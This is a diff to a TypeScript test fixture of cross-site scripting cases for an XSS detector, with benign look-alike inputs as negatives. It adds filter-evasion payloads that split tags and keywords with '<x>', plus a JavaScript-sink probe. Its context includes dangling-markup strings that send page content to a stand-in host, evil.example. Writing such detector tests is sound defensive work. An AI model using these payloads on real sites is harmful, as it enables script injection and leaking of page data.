@@ -158,6 +158,19 @@ export const XSS_CASES: readonly XssCase[] = [
     below: 1,
   },
   { input: '<?import namespace="t" implementation="#default#time2">', expect: 'xss/dangerous-tag', below: 1 },
+  // A path segment that is one probe call, which an error page may reflect.
+  {
+    input: 'confirm.call(null,1)',
+    kind: 'path-segment',
+    location: 'path.1',
+    expect: 'xss/js-sink',
+    atLeast: 0.9,
+  },
+  { input: 'Alert_(film)', kind: 'path-segment', location: 'path.2', expect: null },
+  // Short tags splitting words, for a filter that deletes tags.
+  { input: '\\"autof<x>ocus o<x>nfocus=alert<x>(1)//', expect: 'xss/attribute-breakout' },
+  { input: '<scr<x>ipt>alert(1)</scr<x>ipt>', expect: 'xss/script-tag' },
+  { input: 're<b>mark</b>able H<sub>2</sub>O', expect: null },
   // Dangling markup: a quote left open sends the page's markup after it to another host.
   { input: '<img src="//evil.example/?', expect: 'xss/dangerous-tag', atLeast: 0.9 },
   { input: '<iframe src=https://evil.example/name.html name="', expect: 'xss/dangerous-tag', atLeast: 0.9 },
